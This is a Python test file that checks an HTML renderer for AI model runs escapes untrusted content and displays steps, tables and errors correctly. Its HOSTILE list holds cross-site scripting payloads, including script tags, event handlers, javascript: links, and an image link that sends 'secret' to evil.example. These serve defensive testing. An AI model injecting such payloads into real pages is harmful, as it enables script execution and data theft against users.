"""A run as HTML that every viewer shows and none executes."""

import re
from base64 import b64decode, b64encode
from html.parser import HTMLParser

import pytest
from colours import uncoloured
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from gemini_magic.answer.files import file_of
from gemini_magic.answer.parts import (
    FAILED,
    Call,
    Code,
    Data,
    File,
    Image,
    Note,
    Query,
    Result,
    Source,
    Text,
    Thought,
)
from gemini_magic.request.request import Request
from gemini_magic.runs.html import render
from gemini_magic.runs.run import Run
from gemini_magic.runs.saved import displayed

# A single dot.
PNG = b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
TAGS = set(
    "a blockquote br code details div em h1 h2 h3 h4 h5 h6 hr img li ol p pre small span strong "
    "summary table tbody td th thead tr ul".split()
)
ATTRIBUTES = {
    "style",
    "open",
    "href",
    "rel",
    "target",
    "src",
    "alt",
    "title",
    "class",
    "start",
    "download",
}


class Tags(HTMLParser):
    def __init__(self, html):
        super().__init__()
        self.seen, self.open = [], []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.seen.append((tag, dict(attrs)))
        if tag not in ("img", "br", "hr"):
            self.open.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.seen.append((tag, dict(attrs)))

    def handle_endtag(self, tag):
        assert tag == self.open.pop()


def run_of(*parts, state="done"):
    run = Run(Request("add"), "gemini", "gemini-2.5-pro")
    for part in parts:
        run.add(part)
    run.state = state
    return run


def steps_open(html):
    """Whether each `<details>` is open, in order."""
    return [found.startswith("<details open") for found in re.findall("<details[^>]*>", html)]


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</code></pre></details><svg onload=alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x) <javascript:alert(1)>",
    '" onmouseover="alert(1)',
    "[a]: javascript:alert(1)\n\n[a]",
    "<style>body{display:none}</style>",
    "\x1b]0;x\x07<iframe src=//evil.example>",
]


def assert_harmless(html):
    tags = Tags(html)
    assert tags.open == []
    for tag, attributes in tags.seen:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES
        address = attributes.get("href", "https://")
        # A file is saved, and of a type that no browser runs.
        is_file = "download" in attributes and re.match(r"data:text/csv;base64,[\w+/=]*$", address)
        assert is_file or address.startswith(("https://", "http://", "mailto:"))
        assert attributes.get("src", "data:image/").startswith("data:image/")


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_text_wherever_it_stands(text):
    run = run_of(
        Text(text),
        Thought(text),
        Note(text),
        Code(text, language=text),
        Result(text, text),
        Image(text, b"x"),
        Image("image/png" + text, b"x"),
        Call(text, {text: text}, error=text),
        Call(text, {text: text}, {text: text}),
        Call(text, {text: text}, {"result": text}),
        Data(text),
        Query(text),
        Source(text, text, text),
        File(text, text, 1, b"x"),
        file_of(text, "text/csv", text.encode("utf-8", "replace"), 0),
    )
    run.error = run.model = text
    assert_harmless(render(run))


@given(st.text(alphabet="<>&\"'/[]()!:=`*_#-+ \njavscriptdhe", max_size=120))
def test_any_text_leaves_only_known_tags_closed_in_order(text):
    assert_harmless(render(run_of(Text(text), Code(text), Result(output=text))))


def test_the_reader_sees_code_output_outcome_and_image():
    html = render(run_of(Code("print(1 < 2)"), Result(output="True\n"), Image("image/png", PNG)))
    assert "print(1 &lt; 2)" in uncoloured(html)
    assert "True" in html
    assert ">ok<" in html
    assert f'src="data:image/png;base64,{b64encode(PNG).decode()}"' in html


@pytest.mark.parametrize("outcome", ["OUTCOME_FAILED", "OUTCOME_DEADLINE_EXCEEDED"])
def test_a_run_whose_last_attempt_failed_is_not_called_simply_done(outcome):
    failed, mended = [Code("a"), Result(outcome), Text("So.")], [Code("b"), Result()]
    said, amber = "Done · last attempt failed</strong>", 'color:#b26a00">■<'
    assert said in render(run_of(*failed))
    assert amber in render(run_of(*failed))
    assert said in render(run_of(*mended, *failed))
    assert said not in render(run_of(*failed, *mended))
    assert "Done</strong>" in render(run_of(*failed, *mended))
    assert said not in render(run_of(*failed, state="stopped"))


def test_a_failed_attempt_is_folded_once_a_later_one_succeeds():
    failed, mended = [Code("a"), Result("OUTCOME_FAILED")], [Code("b"), Result()]
    assert steps_open(render(run_of(*failed))) == [True]
    assert steps_open(render(run_of(*failed, *mended))) == [False, True]
    assert steps_open(render(run_of(*mended, *failed))) == [True, True]


def test_thoughts_are_folded():
    assert steps_open(render(run_of(Thought("hm")))) == [False]


def test_prose_is_markdown():
    html = render(run_of(Text("**5117**\n\n| a |\n| - |\n| 1 |")))
    assert "<strong>5117</strong>" in html
    assert '<td style="text-align:start">1</td>' in html


def test_a_column_is_aligned_as_its_table_says():
    html = render(run_of(Text("| a | b |\n| -: | - |\n| 1 | 2 |")))
    assert '<td style="text-align:right">1</td>' in html
    assert '<td style="text-align:start">2</td>' in html


def test_a_block_is_read_in_the_direction_of_its_first_word_and_code_from_left_to_right():
    hebrew = "\u05e9\u05dc\u05d5\u05dd"
    listed = f"- {hebrew}\n\n  ```\n  x\n  ```"
    html = render(run_of(Text(f"{hebrew} `x = 1`\n\n{listed}\n\n| {hebrew} |\n| - |\n| 1 |")))
    assert (
        f'<p dir="auto" style="text-align:start">{hebrew} <code dir="ltr">x = 1</code></p>' in html
    )
    # A list passes over items with directions of their own where it looks for its first word.
    assert re.findall(r'<(\w+)[^>]* dir="auto"', html) == ["p", "ul", "table"]
    assert re.search(r'<pre><code dir="ltr" style="display:block"', html)
    assert "dir=" not in render(run_of(Text("Grüße, `x`")))


def test_an_error_stays_on_the_screen():
    run = run_of(Text("half"), state="failed")
    run.error = "ConnectionLost: the line broke"
    assert "ConnectionLost: the line broke" in render(run)


def test_without_facts_the_html_is_the_same_for_the_same_answer():
    assert render(run_of(Text("x")), stats=False) == render(run_of(Text("x")), stats=False)
    assert "gemini-2.5-pro" in render(run_of(), stats=False)
    assert not re.search(r"\d s\b", render(run_of(), stats=False))


def test_the_offline_engine_says_what_it_is():
    assert "offline engine, code run here" in render(Run(Request("x"), "offline"))


def test_there_is_no_script_and_no_style_sheet():
    html = render(run_of(Text("x"), Code("y"), Result()))
    assert not re.search("<script|<style|<link|javascript:| on[a-z]+=", html)


def test_a_very_long_answer_is_shown_as_typed():
    assert "**x** " * 20_000 in render(run_of(Text("**x** " * 20_000)))


def test_a_folded_output_says_what_is_in_it():
    run = run_of(Code("a"), Result(), Code("b"), Result())
    run.ended = run.started + 7.84
    assert render(run).split("\n")[0] == "<!-- Gemini: done, 2 attempts, 7.8 s: add -->"
    assert render(run, stats=False).split("\n")[0] == "<!-- Gemini: done, 2 attempts: add -->"


def test_folded_attempts_are_named():
    run = run_of(Code("a"), Result(), Image("image/png", PNG))
    assert displayed(run.steps)[0]["text/html"].startswith("<!-- Gemini: Attempt 1 -->\n<div")
    assert displayed(run.images)[0]["text/html"].startswith("<!-- Gemini: 1 part -->\n<div")


@given(st.text(alphabet="<>!-- \nab[]&\x00\x1b"))
def test_no_prompt_ends_the_comment_early(prompt):
    first = render(Run(Request(prompt))).split("\n")[0]
    assert first.startswith("<!-- ")
    assert first.endswith(" -->")
    assert not re.search("--|<|>", first[5:-4])


@given(st.text(alphabet="ab \t\n#-<", max_size=30))
def test_an_export_to_markdown_finds_no_blank_line(text):
    run = run_of(
        Text(f"```\n{text}\n```"), Code(f"x{text}x"), Result(output=f"x{text}x"), Note(text)
    )
    assert not re.search(r"\n[ \t]*\n", render(run))


@given(st.text(alphabet="ab \t\n#-<`*>", max_size=30), st.text(alphabet="a-><! ", max_size=9))
def test_in_markdown_the_html_stays_whole(text, prompt):
    run = Run(Request(prompt))
    for part in (Text(text), Code(f"x{text}x"), Result(output=text), Note(text)):
        run.add(part)
    found = MarkdownIt("commonmark", {"html": True}).parse(render(run))
    assert {token.type for token in found} == {"html_block"}


def test_blank_lines_of_code_are_still_there_for_a_browser():
    class Pre(HTMLParser):
        text = ""

        def handle_data(self, data):
            self.text += data

    seen = Pre()
    seen.feed(render(run_of(Code("a\n\n\n  \nb"))))
    assert "a\n\n\n  \nb" in seen.text


def test_an_attempt_that_failed_names_its_exception():
    code = Code("raise KeyError('<July>')  # or\nValueError('no')")
    said = "Traceback (most recent call last):\n  File ...\nKeyError: '<July>'\n"
    shown = render(run_of(code, Result(FAILED, said)))
    assert "failed · KeyError: '&lt;July&gt;'</span>" in shown
    assert "failed</span>" in render(run_of(code, Result(FAILED, "no word")))
    assert f"failed · ValueError: {'x' * 48}…</span>" in render(
        run_of(code, Result(FAILED, f"ValueError: {'x' * 99}"))
    )
